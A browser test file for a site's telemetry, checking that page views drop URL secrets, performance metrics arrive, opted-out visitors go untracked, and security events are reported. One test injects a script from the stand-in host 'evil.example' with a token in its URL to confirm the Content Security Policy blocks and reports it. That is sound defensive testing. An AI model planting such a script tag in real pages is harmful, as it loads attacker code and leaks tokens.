import { setTimeout as pause } from 'node:timers/promises'
import { expect, test } from 'vitest'
import { patience } from '../support/patience.ts'
import { claim } from './claim.ts'
import { errors, open, page, rows, setUp, site, visitor } from './telemetry-in-browser.ts'

setUp()

type EventRow = { event_name: string; properties: { page_url: string; user_agent: string } }

test(claim('1.14 3.18 7.8', 'each page view is one event with its URL, without secrets'), async () => {
  await open('/terms?token=abc&x=1#email=a')
  // Two simultaneous events may arrive in either order.
  await rows<EventRow>('analytics_events', 1)
  await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click()
  await page.waitForURL('**/privacy')
  const seen = await rows<EventRow>('analytics_events', 2)
  expect(seen.map(({ event_name, properties }) => [event_name, properties.page_url])).toEqual([
    ['page_view', `${site.world.url}/terms?token=&x=1#email=`],
    ['page_view', `${site.world.url}/privacy`],
  ])
  expect(seen[0]?.properties.user_agent).toContain('Mozilla')
})

type MetricRow = { metric_name: string; metric_value: number; page_url: string }

test(
  claim(
    '1.15 7.9 9.9.1 9.9.2 9.9.3 9.9.4 9.9.5 9.9.6 9.9.7 9.9.8 9.9.9',
    'all nine metrics and INP have arrived when the page is left',
  ),
  async () => {
    await page.goto('/browse?location=Berlin')
    await page.locator('html[data-ready]').waitFor()
    await page.waitForLoadState('networkidle')
    await page.locator('input[name=location]').first().fill('Ber')
    await page.waitForResponse('**/api/v1/places?**')
    await page.mouse.click(5, 5)
    await pause(500)
    await page.goto('about:blank')
    const arrived = async () =>
      (await rows<MetricRow>('performance_metrics', 0)).filter((row) => row.page_url === '/browse')
    const names = async () => [...new Set((await arrived()).map(({ metric_name }) => metric_name))].sort()
    await expect.poll(async () => (await names()).length, { timeout: patience(10_000) }).toBeGreaterThanOrEqual(10)
    const metrics = await arrived()
    expect(await names()).toEqual([
      'api_response_time',
      'cls',
      'dns_lookup_time',
      'dom_content_loaded_time',
      'fid',
      'initial_page_load',
      'inp',
      'lcp',
      'page_load_time',
      'server_response_time',
    ])
    for (const { metric_name, metric_value } of metrics) expect(metric_value, metric_name).toBeGreaterThanOrEqual(0)
  },
)

test(claim('18.6.5', 'a visitor who opted out is neither counted nor measured, but errors arrive'), async () => {
  await page.addInitScript(() => Object.defineProperty(navigator, 'globalPrivacyControl', { value: true }))
  const asked: string[] = []
  page.on('request', (request) => asked.push(new URL(request.url()).pathname))
  await page.goto('/terms')
  await page.waitForLoadState('networkidle')
  await page.evaluate(() => console.error('still told'))
  expect(await errors(1)).toHaveLength(1)
  await page.goto('about:blank')
  expect(asked.filter((path) => /analytics-events|performance-metrics/.test(path))).toEqual([])
})

type SecurityRow = { event_type: string; details: Record<string, unknown>; seen_by_server: boolean }

test(
  claim(
    '7.10 7.23.4 7.23.5',
    'clicks faster than a person’s and a blocked script are reported to the security monitor',
  ),
  async () => {
    await open('/terms')
    await page.evaluate(() => {
      for (let n = 0; n < 30; n++) document.body.click()
    })
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/a.js?token=abc'
      document.body.append(script)
    })
    await rows('security_events', 1)
    await page.evaluate(() => document.body.click())
    const told = await rows<SecurityRow>('security_events', 2)
    expect(told.map(({ event_type, details, seen_by_server }) => [event_type, details, seen_by_server])).toEqual([
      ['console_security_warning', { directive: 'script-src-elem', blocked: 'https://evil.example' }, false],
      ['suspicious_rapid_clicks', { clicks: 31, within_ms: 5_000 }, false],
    ])
    expect(visitor.complaints.splice(0)).toHaveLength(1)
  },
)
